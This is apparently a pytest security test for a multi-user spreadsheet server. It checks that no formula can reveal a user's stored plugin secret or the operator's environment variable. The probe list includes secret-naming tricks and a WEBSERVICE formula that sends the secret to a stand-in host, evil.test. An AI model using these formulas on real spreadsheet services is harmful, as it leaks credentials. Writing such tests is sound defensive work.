"""Formulas that try to name a secret."""

from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from gridos.db import EmbeddedServer
from tests.web.serving import Person, Site, serving

SHOP = "/settings/plugin-secrets/shop"
CANARY = "a-secret-that-no-formula-can-name"
NAMES = ("NAME", "SHOP_NAME", "shop.NAME", "SECRET", "GRIDOS_ROOT_KEY", "PATH")
FORMULAS = [
    *(f"={name}" for name in NAMES),
    *(f'=INDIRECT("{name}")' for name in NAMES),
    *(f'={function}("shop","NAME")' for function in ("GET_SECRET", "kernel.get_secret", "SECRET", "ENV", "GETENV")),
    '=CONCAT("{NAME}","",SHOP_NAME)',
    '="{NAME}"&"${SHOP_NAME}"&"%SHOP_NAME%"',
    "=LAMBDA(x,x)(NAME)",
    "=LET(NAME,SHOP_NAME,NAME)",
    '=MAP({"NAME"},LAMBDA(k,INDIRECT(k)))',
    '=SHOP_LETTERS()&""',
    '=SHOP_LETTERS("NAME")',
    '=WEBSERVICE("https://evil.test/?"&NAME)',
    '=CELL("filename")&INFO("directory")&INFO("osversion")',
    "=FORMULATEXT(A1)&A1",
    "=STOLEN",
    "=TWICE_STOLEN",
    "=STOLEN()",
]


@pytest.fixture(scope="module")
async def site(postgres: EmbeddedServer, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Site]:
    """A server of many users, whose environment has a secret of the same name."""
    with pytest.MonkeyPatch.context() as environment:
        environment.setenv("SHOP_NAME", f"{CANARY} of the operator")
        folder: Path = tmp_path_factory.mktemp("formulas")
        async with serving(postgres, folder, mode="saas") as site:
            yield site


@pytest.fixture
async def ada(site: Site) -> Person:
    """Somebody whose secret is stored."""
    ada = await site.person("ada")
    assert (await ada.send("PUT", SHOP, json={"secrets": {"NAME": CANARY}})).is_success
    return ada


async def test_no_formula_names_a_secret(ada: Person) -> None:
    """Functions, texts, lambdas, references and names in every combination reach numbers, never a stored value."""
    workbook = await ada.create()
    names = {"STOLEN": '=SHOP_NAME&"{NAME}"', "TWICE_STOLEN": "=STOLEN&NAME", "LAMBDA_STOLEN": "=LAMBDA(NAME)"}
    edits = [{"op": "define_name", "name": name, "refers_to": text} for name, text in names.items()]
    for edit in edits:
        await ada.send("POST", f"/workbook/{workbook}/edits", json={"edits": [edit]})
    for row, formula in enumerate(FORMULAS, 1):
        await ada.send(
            "POST",
            f"/workbook/{workbook}/edits",
            json={"edits": [{"op": "set", "sheet": "Sheet1", "cell": f"A{row}", "input": formula}]},
        )
    answers = [
        (await ada.send("GET", f"/workbook/{workbook}/cells", params={"wait": 10})).text,
        (await ada.send("POST", f"/workbook/{workbook}/eval", json={"formulas": FORMULAS})).text,
        (await ada.send("GET", f"/workbook/{workbook}")).text,
    ]
    assert str(len(CANARY)) in answers[0]  # the connector did run on the secret
    for answer in answers:
        assert CANARY not in answer
        assert CANARY[::-1] not in answer
